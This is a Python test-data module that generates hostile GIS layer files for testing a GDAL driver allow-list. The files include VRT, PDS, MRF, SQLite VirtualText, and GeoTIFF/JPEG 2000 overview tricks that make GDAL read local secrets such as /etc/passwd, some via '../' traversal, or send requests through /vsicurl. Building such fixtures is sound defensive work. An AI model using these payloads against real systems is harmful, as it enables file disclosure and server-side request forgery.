"""Hostile layer files: TEST DATA for the input-driver allow-list (no I/O, bytes only).

Each entry is a file a caller could upload as a layer. Opened by plain GDAL 3.6 (Debian 12)
with every driver registered, it either reads a local file it names (`reaches == "file"`) or
sends an HTTP request to a URL it names (`reaches == "url"`), when it is opened or at the
latest when band 1, its overview 1 or the features are read. Every entry was checked on that
GDAL (secrets /etc/passwd, /proc/<pid>/environ and a CSV file): the secret's bytes came back,
or a loopback listener counted the request, and `gdal.IdentifyDriverEx(path)` (every driver,
as the node's format check asks) named `driver`. The extension is no defence: GDAL picks most
of these drivers by content, whatever the file is called.

What a reader of the secret gets back (a test that looks for the secret's bytes must know):

* the VRT raw band reads the first `RAW_BYTES` bytes of the secret as the pixels of band 1,
  the GeoTIFF / JPEG 2000 overviews the first `RAW_BYTES // 2` as those of overview 1 of
  band 1, zero-filled past its end;
* MRF, PDS, ISIS3, PDS4 and ERS read exactly its first `HEAD_BYTES` bytes as band 1 (a
  shorter secret fails the read);
* OGR_PDS reads up to `PDS_TABLE_ROWS` records of `PDS_TABLE_ROW_BYTES` bytes as the string
  field LINE;
* VirtualText (SpatiaLite, in SQLite and GeoPackage files) reads the secret as text lines;
* the CSV readers (OGR VRT and SQLite VirtualOGR over `CSV:<secret>`) read it only if it
  parses as CSV: its first line holds a `,`, `;`, TAB or `|` (not /etc/passwd, for one).

`hostile_layers` returns entries whose driver the allow-list refuses. `allowed_driver_layers`
returns entries opened by drivers the allow-list keeps (GTiff, JP2OpenJPEG, GPKG, GeoJSON):
a driver allow-list alone does not stop them (the overview file is opened with every
driver; GeoJSON fetches a "link" CRS; GPKG loads SpatiaLite's virtual tables); they need the
node's configuration and checks (see gdal-drivers.tsv's reasons).

`url` must be an http(s) URL without query or fragment (entries append paths and queries);
`secret_file` an absolute path without quotes or line breaks.
"""

from __future__ import annotations

import io
import sqlite3
import struct
import zipfile
from dataclasses import dataclass, replace
from pathlib import PurePosixPath
from urllib.parse import urlsplit
from xml.sax.saxutils import escape, quoteattr

RAW_BYTES = 4096
HEAD_BYTES = 16
PDS_TABLE_ROWS = 8
PDS_TABLE_ROW_BYTES = 32


@dataclass(frozen=True)
class HostileLayer:
    """One hostile file, as a caller would upload it."""

    name: str  # short id for test ids, e.g. "vrt-raw-secret"
    filename: str  # the name (extension) a caller would give it
    content: bytes
    kind: str  # "raster" or "vector": which kind of QGIS input it is given to
    # The GDAL driver (ShortName) that opens it: the first to claim it among all drivers,
    # which the node's check sees. One exception in kind: "ogr-pds-table-secret" is claimed
    # by the raster PDS driver, but a vector input is opened by OGR_PDS (refused as well).
    driver: str
    reaches: str  # "file" (reads a local file) or "url" (sends a request)


def _check(secret_file: str, url: str) -> str:
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https") or not parts.netloc or parts.query \
            or parts.fragment:
        raise ValueError(f"url must be http(s)://host[:port]/path, got {url!r}")
    if not secret_file.startswith("/") or any(c in secret_file for c in "\"'\r\n\0"):
        raise ValueError(f"secret_file must be an absolute path, got {secret_file!r}")
    return url.rstrip("/")


def _x(text: str) -> str:
    return escape(text)


def _climb(path: str) -> str:
    """`path` relative to any folder up to 40 deep: the PDS, ISIS3, PDS4, ERS and OGR_PDS
    readers put the label's folder before the name they find in it, absolute or not."""
    return "../" * 40 + path.lstrip("/")


# ---------------------------------------------------------------------------- raster XML


def _vrt_raw(source: str, width: int, height: int = 1) -> bytes:
    return f"""<VRTDataset rasterXSize="{width}" rasterYSize="{height}">
  <VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">
    <SourceFilename relativeToVRT="0">{_x(source)}</SourceFilename>
    <ImageOffset>0</ImageOffset>
    <PixelOffset>1</PixelOffset>
    <LineOffset>{width}</LineOffset>
  </VRTRasterBand>
</VRTDataset>
""".encode()


def _vrt_simple(source: str) -> bytes:
    return f"""<VRTDataset rasterXSize="256" rasterYSize="256">
  <VRTRasterBand dataType="Byte" band="1">
    <SimpleSource>
      <SourceFilename relativeToVRT="0">{_x(source)}</SourceFilename>
      <SourceBand>1</SourceBand>
    </SimpleSource>
  </VRTRasterBand>
</VRTDataset>
""".encode()


def _gdal_wms(service: str) -> bytes:
    return f"""<GDAL_WMS>
  {service}
  <DataWindow>
    <UpperLeftX>-20037508.34</UpperLeftX><UpperLeftY>20037508.34</UpperLeftY>
    <LowerRightX>20037508.34</LowerRightX><LowerRightY>-20037508.34</LowerRightY>
    <TileLevel>1</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY>
    <SizeX>512</SizeX><SizeY>512</SizeY><YOrigin>top</YOrigin>
  </DataWindow>
  <Projection>EPSG:3857</Projection>
  <BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY>
  <BandsCount>1</BandsCount>
</GDAL_WMS>
""".encode()


def _mrf(data_file: str) -> bytes:
    # No index file: GDAL's MRF then reads the single tile from the start of the data file.
    return f"""<MRF_META>
  <Raster>
    <Size x="{HEAD_BYTES}" y="1" c="1"/>
    <PageSize x="{HEAD_BYTES}" y="1" c="1"/>
    <Compression>NONE</Compression>
    <DataType>Byte</DataType>
    <DataFile>{_x(data_file)}</DataFile>
    <IndexFile>{_x(data_file)}.idx</IndexFile>
  </Raster>
</MRF_META>
""".encode()


def _pds3_image(secret: str) -> bytes:
    return f"""PDS_VERSION_ID = PDS3
RECORD_TYPE = FIXED_LENGTH
RECORD_BYTES = {HEAD_BYTES}
FILE_RECORDS = 1
^IMAGE = ("{secret}", 1)
OBJECT = IMAGE
  LINES = 1
  LINE_SAMPLES = {HEAD_BYTES}
  SAMPLE_TYPE = UNSIGNED_INTEGER
  SAMPLE_BITS = 8
  BANDS = 1
END_OBJECT = IMAGE
END
""".encode()


def _pds3_table(secret: str) -> bytes:
    return f"""PDS_VERSION_ID = PDS3
RECORD_TYPE = FIXED_LENGTH
RECORD_BYTES = {PDS_TABLE_ROW_BYTES}
FILE_RECORDS = {PDS_TABLE_ROWS}
^TABLE = ("{secret}", 1)
OBJECT = TABLE
  INTERCHANGE_FORMAT = ASCII
  ROWS = {PDS_TABLE_ROWS}
  COLUMNS = 1
  ROW_BYTES = {PDS_TABLE_ROW_BYTES}
  OBJECT = COLUMN
    NAME = LINE
    DATA_TYPE = CHARACTER
    START_BYTE = 1
    BYTES = {PDS_TABLE_ROW_BYTES}
  END_OBJECT = COLUMN
END_OBJECT = TABLE
END
""".encode()


def _isis3(secret: str) -> bytes:
    return f"""Object = IsisCube
  Object = Core
    ^Core = "{secret}"
    Format = BandSequential
    Group = Dimensions
      Samples = {HEAD_BYTES}
      Lines = 1
      Bands = 1
    End_Group
    Group = Pixels
      Type = UnsignedByte
      ByteOrder = Lsb
      Base = 0.0
      Multiplier = 1.0
    End_Group
  End_Object
End_Object
End
""".encode()


def _pds4(secret: str) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1">
  <Identification_Area>
    <logical_identifier>urn:nasa:pds:x:x:x</logical_identifier>
    <version_id>1.0</version_id>
    <title>x</title>
    <information_model_version>1.11.0.0</information_model_version>
    <product_class>Product_Observational</product_class>
  </Identification_Area>
  <File_Area_Observational>
    <File><file_name>{_x(secret)}</file_name></File>
    <Array_2D_Image>
      <offset unit="byte">0</offset>
      <axes>2</axes>
      <axis_index_order>Last Index Fastest</axis_index_order>
      <Element_Array><data_type>UnsignedByte</data_type></Element_Array>
      <Axis_Array>
        <axis_name>Line</axis_name><elements>1</elements><sequence_number>1</sequence_number>
      </Axis_Array>
      <Axis_Array>
        <axis_name>Sample</axis_name><elements>{HEAD_BYTES}</elements>
        <sequence_number>2</sequence_number>
      </Axis_Array>
    </Array_2D_Image>
  </File_Area_Observational>
</Product_Observational>
""".encode()


def _ers(secret: str) -> bytes:
    return f"""DatasetHeader Begin
\tVersion\t= "6.0"
\tDataFile\t= "{secret}"
\tDataSetType\t= ERStorage
\tDataType\t= Raster
\tByteOrder\t= LSBFirst
\tCoordinateSpace Begin
\t\tDatum\t= "RAW"
\t\tProjection\t= "RAW"
\t\tCoordinateType\t= RAW
\tCoordinateSpace End
\tRasterInfo Begin
\t\tCellType\t= Unsigned8BitInteger
\t\tNrOfLines\t= 1
\t\tNrOfCellsPerLine\t= {HEAD_BYTES}
\t\tNrOfBands\t= 1
\tRasterInfo End
DatasetHeader End
""".encode()


def _superoverlay(href: str) -> bytes:
    """A super-overlay root: its region's network link is fetched when it is opened."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2">
  <Document>
    <NetworkLink>
      <name>0</name>
      <Region>
        <LatLonAltBox><north>1</north><south>0</south><east>1</east><west>0</west></LatLonAltBox>
        <Lod><minLodPixels>128</minLodPixels><maxLodPixels>-1</maxLodPixels></Lod>
      </Region>
      <Link><href>{_x(href)}</href><viewRefreshMode>onRegion</viewRefreshMode></Link>
    </NetworkLink>
  </Document>
</kml>
""".encode()


_TILE_MATRIX_SET = (
    '{"type":"TileMatrixSetType","identifier":"WebMercatorQuad",'
    '"boundingBox":{"type":"BoundingBoxType",'
    '"crs":"http://www.opengis.net/def/crs/EPSG/0/3857",'
    '"lowerCorner":[-20037508.3427892,-20037508.3427892],'
    '"upperCorner":[20037508.3427892,20037508.3427892]},'
    '"supportedCRS":"http://www.opengis.net/def/crs/EPSG/0/3857",'
    '"wellKnownScaleSet":"http://www.opengis.net/def/wkss/OGC/1.0/GoogleMapsCompatible",'
    '"tileMatrix":[{"type":"TileMatrixType","identifier":"0",'
    '"scaleDenominator":559082264.028717,'
    '"topLeftCorner":[-20037508.3427892,20037508.3427892],'
    '"tileWidth":256,"tileHeight":256,"matrixWidth":1,"matrixHeight":1}]}'
)


def _stacta(base: str) -> bytes:
    template = f"{base}/stacta/{{TileMatrix}}/{{TileRow}}/{{TileCol}}.tif"
    return (
        '{"stac_version":"1.0.0","stac_extensions":["tiled-assets"],"type":"Feature",'
        '"id":"tiles","bbox":[-180,-85,180,85],"geometry":null,'
        '"properties":{"datetime":"2020-01-01T00:00:00Z",'
        f'"tiles:tile_matrix_sets":{{"WebMercatorQuad":{_TILE_MATRIX_SET}}},'
        '"tiles:tile_matrix_links":{"WebMercatorQuad":'
        '{"url":"#WebMercatorQuad","limits":{"0":{}}}}},'
        f'"asset_templates":{{"bands":{{"href":{_json(template)}}}}},"links":[]}}\n'
    ).encode()


def _stacit(base: str) -> bytes:
    href = f"{base}/stacit/item.tif"
    return (
        '{"type":"FeatureCollection","features":[{"type":"Feature","stac_version":"1.0.0",'
        '"stac_extensions":["https://stac-extensions.github.io/projection/v1.0.0/schema.json"],'
        '"id":"item","bbox":[0,0,1,1],"geometry":{"type":"Polygon",'
        '"coordinates":[[[0,0],[1,0],[1,1],[0,1],[0,0]]]},'
        '"properties":{"datetime":"2020-01-01T00:00:00Z","proj:epsg":4326},'
        f'"assets":{{"B1":{{"href":{_json(href)},'
        '"type":"image/tiff; application=geotiff","proj:shape":[8,8],'
        '"proj:transform":[0.125,0,0,0,-0.125,1,0,0,1]}},"links":[]}]}\n'
    ).encode()


def _json(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# ---------------------------------------------------------------------------- vector XML


def _ogr_vrt(source: str, layer: str) -> bytes:
    return f"""<OGRVRTDataSource>
  <OGRVRTLayer name="x">
    <SrcDataSource relativeToVRT="0">{_x(source)}</SrcDataSource>
    <SrcLayer>{_x(layer)}</SrcLayer>
  </OGRVRTLayer>
</OGRVRTDataSource>
""".encode()


def _gml_wfs_schema(base: str) -> bytes:
    schema = (f"{base}/wfs?SERVICE=WFS&VERSION=1.0.0&REQUEST=DescribeFeatureType"
              "&TYPENAME=ogr:x")
    location = quoteattr(f"http://ogr.maptools.org/ {schema}")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs"
    xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xsi:schemaLocation={location}>
  <gml:featureMember>
    <ogr:x fid="x.0"><ogr:name>a</ogr:name></ogr:x>
  </gml:featureMember>
</wfs:FeatureCollection>
""".encode()


# ---------------------------------------------------------------------------- SQLite files


def _sql_text(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _virtual_text(secret: str) -> str:
    # Separated by the ASCII unit separator, which a text secret hardly holds: a line comes
    # back whole, as one field.
    return (f"CREATE VIRTUAL TABLE x USING VirtualText({_sql_text(secret)}, 'UTF-8', 0, "
            "POINT, NONE, '\x1f')")


def _with_virtual_table(connection: sqlite3.Connection, create: str) -> None:
    """Puts `create` in the schema as it is: the module need not exist in this sqlite3."""
    connection.execute("PRAGMA writable_schema=ON")
    connection.execute("INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) "
                       "VALUES ('table', 'x', 'x', 0, ?)", (create,))
    connection.commit()
    connection.execute("PRAGMA writable_schema=OFF")


def _sqlite(create: str) -> bytes:
    connection = sqlite3.connect(":memory:")
    try:
        connection.execute("CREATE TABLE notes (note TEXT)")
        connection.execute("INSERT INTO notes VALUES ('nothing to see')")
        connection.commit()
        _with_virtual_table(connection, create)
        return connection.serialize()
    finally:
        connection.close()


_GPKG_SCHEMA = """
PRAGMA application_id = 1196444487;
PRAGMA user_version = 10300;
CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT NOT NULL, srs_id INTEGER PRIMARY KEY,
  organization TEXT NOT NULL, organization_coordsys_id INTEGER NOT NULL,
  definition TEXT NOT NULL, description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES
  ('Undefined cartesian SRS', -1, 'NONE', -1, 'undefined', NULL),
  ('Undefined geographic SRS', 0, 'NONE', 0, 'undefined', NULL);
CREATE TABLE gpkg_contents (table_name TEXT NOT NULL PRIMARY KEY,
  data_type TEXT NOT NULL, identifier TEXT UNIQUE, description TEXT DEFAULT '',
  last_change DATETIME NOT NULL DEFAULT (strftime('%Y-%m-%dT%H:%M:%fZ','now')),
  min_x DOUBLE, min_y DOUBLE, max_x DOUBLE, max_y DOUBLE, srs_id INTEGER);
CREATE TABLE gpkg_geometry_columns (table_name TEXT NOT NULL, column_name TEXT NOT NULL,
  geometry_type_name TEXT NOT NULL, srs_id INTEGER NOT NULL, z TINYINT NOT NULL,
  m TINYINT NOT NULL, CONSTRAINT pk_geom_cols PRIMARY KEY (table_name, column_name));
INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('x', 'attributes', 'x');
"""


def _gpkg(create: str) -> bytes:
    connection = sqlite3.connect(":memory:")
    try:
        connection.executescript(_GPKG_SCHEMA)
        _with_virtual_table(connection, create)
        return connection.serialize()
    finally:
        connection.close()


# ---------------------------------------------------------------------------- images


def _gdal_metadata(items: dict[tuple[str, str], str]) -> str:
    return "<GDALMetadata>" + "".join(
        f"<Item name={quoteattr(key)} domain={quoteattr(domain)}>{_x(value)}</Item>"
        for (domain, key), value in items.items()) + "</GDALMetadata>"


def _tiff(width: int, height: int, gdal_metadata: str) -> bytes:
    """A little-endian, uncompressed, one-strip, 8-bit grey TIFF with a GDAL_METADATA tag."""
    text = gdal_metadata.encode() + b"\0"
    entries = [  # tag, type (3 SHORT, 4 LONG, 2 ASCII), count, value
        (256, 3, 1, width), (257, 3, 1, height), (258, 3, 1, 8), (259, 3, 1, 1),
        (262, 3, 1, 1), (273, 4, 1, None), (277, 3, 1, 1), (278, 3, 1, height),
        (279, 4, 1, width * height), (284, 3, 1, 1), (42112, 2, len(text), None),
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    text_offset = 8 + ifd_size
    pixels_offset = text_offset + len(text) + (len(text) % 2)
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        if tag == 273:
            value = pixels_offset
        elif tag == 42112:
            value = text_offset
        packed = struct.pack("<H", value) + b"\0\0" if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    ifd += struct.pack("<I", 0)
    padding = b"\0" * (len(text) % 2)
    return b"II*\0" + struct.pack("<I", 8) + ifd + text + padding + bytes(width * height)


# An 8x8 one-band Byte JPEG 2000 codestream (lossless, one resolution), made once with
# GDAL's JP2OpenJPEG driver (its comment segment taken out).
_J2K_8X8 = bytes.fromhex(
    "ff4fff510029000200000008000000080000000000000000000000080000000800000000000000000001"
    "070101ff52000d0100000100000404000199ff5c00044040"
    "ff90000a0000000000240001ff93cfb44c115054af850d1400000018484bbaf580061211ffd9")


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _jp2(gdal_multidomain_metadata: str) -> bytes:
    """A JP2 file around `_J2K_8X8` with GDAL's metadata 'xml ' box."""
    header = _box(b"ihdr", struct.pack(">IIHBBBB", 8, 8, 1, 7, 7, 0, 0))
    colour = _box(b"colr", struct.pack(">BBBI", 1, 0, 0, 17))
    return (_box(b"jP  ", b"\r\n\x87\n") + _box(b"ftyp", b"jp2 \0\0\0\0jp2 ")
            + _box(b"jp2h", header + colour)
            + _box(b"xml ", gdal_multidomain_metadata.encode())
            + _box(b"jp2c", _J2K_8X8))


def _overview_domain(value: str) -> str:
    return ('<GDALMultiDomainMetadata><Metadata domain="OVERVIEWS">'
            f"<MDI key=\"OVERVIEW_FILE\">{_x(value)}</MDI></Metadata>"
            "</GDALMultiDomainMetadata>")


def _inline_vrt(source: str, width: int, height: int) -> str:
    return _vrt_raw(source, width, height).decode().replace("\n", "")


# ---------------------------------------------------------------------------- the corpus


def hostile_layers(secret_file: str, url: str) -> list[HostileLayer]:
    """Layer files whose GDAL driver the allow-list refuses; each reads `secret_file` or
    sends a request to (a URL under) `url` when opened and read."""
    base = _check(secret_file, url)
    curl = f"/vsicurl/{base}"
    return [
        HostileLayer("vrt-raw-secret", "evil.vrt", _vrt_raw(secret_file, RAW_BYTES),
                     "raster", "VRT", "file"),
        HostileLayer("vrt-raw-vsicurl", "evil.vrt", _vrt_raw(f"{curl}/raw.bin", RAW_BYTES),
                     "raster", "VRT", "url"),
        HostileLayer("vrt-simple-vsicurl", "evil.vrt", _vrt_simple(f"{curl}/source.tif"),
                     "raster", "VRT", "url"),
        HostileLayer("wms-getmap", "evil.xml", _gdal_wms(
            f"<Service name=\"WMS\"><Version>1.1.1</Version><ServerUrl>{_x(base)}/wms?"
            "</ServerUrl><SRS>EPSG:3857</SRS><ImageFormat>image/png</ImageFormat>"
            "<Layers>x</Layers></Service>"), "raster", "WMS", "url"),
        HostileLayer("wms-tms", "evil.xml", _gdal_wms(
            f"<Service name=\"TMS\"><ServerUrl>{_x(base)}/tms/${{z}}/${{x}}/${{y}}.png"
            "</ServerUrl></Service>"), "raster", "WMS", "url"),
        HostileLayer("wmts-capabilities", "evil.xml", (
            f"<GDAL_WMTS><GetCapabilitiesUrl>{_x(base)}/wmts?SERVICE=WMTS&amp;"
            "REQUEST=GetCapabilities</GetCapabilitiesUrl></GDAL_WMTS>\n").encode(),
            "raster", "WMTS", "url"),
        HostileLayer("wcs-describecoverage", "evil.xml", (
            f"<WCS_GDAL><ServiceURL>{_x(base)}/wcs?</ServiceURL>"
            "<CoverageName>x</CoverageName></WCS_GDAL>\n").encode(), "raster", "WCS", "url"),
        HostileLayer("mrf-datafile-secret", "evil.mrf", _mrf(secret_file),
                     "raster", "MRF", "file"),
        HostileLayer("mrf-datafile-vsicurl", "evil.mrf", _mrf(f"{curl}/data.bin"),
                     "raster", "MRF", "url"),
        HostileLayer("pds3-image-secret", "evil.lbl", _pds3_image(_climb(secret_file)),
                     "raster", "PDS", "file"),
        HostileLayer("isis3-core-secret", "evil.lbl", _isis3(_climb(secret_file)),
                     "raster", "ISIS3", "file"),
        HostileLayer("pds4-file-secret", "evil.xml", _pds4(_climb(secret_file)),
                     "raster", "PDS4", "file"),
        HostileLayer("ers-datafile-secret", "evil.ers", _ers(_climb(secret_file)),
                     "raster", "ERS", "file"),
        HostileLayer("kml-superoverlay-url", "evil.kml", _superoverlay(f"{base}/0/0/0.kml"),
                     "raster", "KMLSUPEROVERLAY", "url"),
        HostileLayer("stacta-tiles-url", "evil.json", _stacta(base), "raster", "STACTA", "url"),
        HostileLayer("stacit-asset-url", "evil.json", _stacit(base), "raster", "STACIT", "url"),
        HostileLayer("ogr-vrt-csv-secret", "evil.vrt",
                     _ogr_vrt(f"CSV:{secret_file}", PurePosixPath(secret_file).stem),
                     "vector", "OGR_VRT", "file"),
        HostileLayer("ogr-vrt-vsicurl", "evil.vrt", _ogr_vrt(f"{curl}/layer.geojson", "layer"),
                     "vector", "OGR_VRT", "url"),
        HostileLayer("ogr-pds-table-secret", "evil.lbl", _pds3_table(_climb(secret_file)),
                     "vector", "PDS", "file"),
        HostileLayer("gml-wfs-schema-url", "evil.gml", _gml_wfs_schema(base),
                     "vector", "GML", "url"),
        HostileLayer("wfs-datasource-url", "evil.xml", (
            f"<OGRWFSDataSource><URL>{_x(base)}/wfs?SERVICE=WFS</URL></OGRWFSDataSource>\n"
        ).encode(), "vector", "WFS", "url"),
        HostileLayer("sqlite-virtualogr-csv-secret", "evil.sqlite", _sqlite(
            f"CREATE VIRTUAL TABLE x USING VirtualOGR({_sql_text('CSV:' + secret_file)})"),
            "vector", "SQLite", "file"),
        HostileLayer("sqlite-virtualogr-vsicurl", "evil.sqlite", _sqlite(
            f"CREATE VIRTUAL TABLE x USING VirtualOGR({_sql_text(curl + '/layer.geojson')})"),
            "vector", "SQLite", "url"),
        HostileLayer("sqlite-virtualtext-secret", "evil.sqlite",
                     _sqlite(_virtual_text(secret_file)), "vector", "SQLite", "file"),
    ]


def allowed_driver_layers(secret_file: str, url: str) -> list[HostileLayer]:
    """Layer files opened by drivers the allow-list KEEPS that still read `secret_file` or
    send a request under `url` on plain GDAL 3.6: an allow-list passed to GDALOpenEx does not
    stop them (nested opens use every driver; the rest is the drivers' own doing)."""
    base = _check(secret_file, url)
    curl = f"/vsicurl/{base}"
    half = RAW_BYTES // 2
    # The overview is read where a smaller image is wanted (QGIS rendering, gdalwarp, -outsize).
    vrt_overview = {("OVERVIEWS", "OVERVIEW_FILE"): _inline_vrt(secret_file, half, 1)}
    url_overview = {("OVERVIEWS", "OVERVIEW_FILE"): f"{curl}/overview.tif"}
    return [
        HostileLayer("gtiff-overview-vrt-secret", "evil.tif",
                     _tiff(RAW_BYTES, 2, _gdal_metadata(vrt_overview)),
                     "raster", "GTiff", "file"),
        HostileLayer("gtiff-overview-vsicurl", "evil.tif",
                     _tiff(RAW_BYTES, 2, _gdal_metadata(url_overview)),
                     "raster", "GTiff", "url"),
        HostileLayer("jp2-overview-vrt-secret", "evil.jp2",
                     _jp2(_overview_domain(_inline_vrt(secret_file, 4, half // 4))),
                     "raster", "JP2OpenJPEG", "file"),
        HostileLayer("jp2-overview-vsicurl", "evil.jp2",
                     _jp2(_overview_domain(f"{curl}/overview.tif")),
                     "raster", "JP2OpenJPEG", "url"),
        HostileLayer("gpkg-virtualtext-secret", "evil.gpkg", _gpkg(_virtual_text(secret_file)),
                     "vector", "GPKG", "file"),
        HostileLayer("geojson-crs-link-url", "evil.geojson", (
            '{"type":"FeatureCollection","crs":{"type":"link","properties":'
            f'{{"href":{_json(base + "/crs.wkt")},"url":{_json(base + "/crs.wkt")},'
            '"type":"ogcwkt"}},"features":[{"type":"Feature","properties":{"a":1},'
            '"geometry":{"type":"Point","coordinates":[1,2]}}]}\n').encode(),
            "vector", "GeoJSON", "url"),
    ]


def zipped(layer: HostileLayer) -> HostileLayer:
    """The same layer as the only entry of a zip file named after its stem.

    The labels that climb out of their folder with ../ (PDS, ISIS3, PDS4, ERS, OGR_PDS) reach
    the secret once the zip is unpacked to a folder, as the node does; opened in place
    through /vsizip/ they stay inside the archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(layer.filename, layer.content)
    stem = PurePosixPath(layer.filename).stem
    return replace(layer, name=f"{layer.name}-zip", filename=f"{stem}.zip",
                   content=buffer.getvalue())
